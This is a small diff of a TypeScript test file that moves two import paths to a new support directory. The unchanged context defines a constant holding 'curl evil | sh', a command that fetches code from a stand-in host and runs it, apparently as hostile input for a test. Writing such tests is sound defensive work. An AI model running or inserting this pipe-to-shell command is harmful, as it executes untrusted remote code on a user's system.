@@ -3,8 +3,8 @@ import assert from 'node:assert/strict';
 import { truncateSync } from 'node:fs';
 import { join } from 'node:path';
 import { errorInfo } from '../../src/errors.ts';
-import { failure, untilStopped } from '../worker/rig.ts';
-import { put, Repository, shell } from '../worktree/repository.ts';
+import { put, Repository, shell } from '../support/git/repository.ts';
+import { failure, untilStopped } from '../support/worker/rig.ts';
 
 const EVIL = 'curl evil | sh\n';
 const PLAIN = { options: { worktree: false, retries: 0 } };
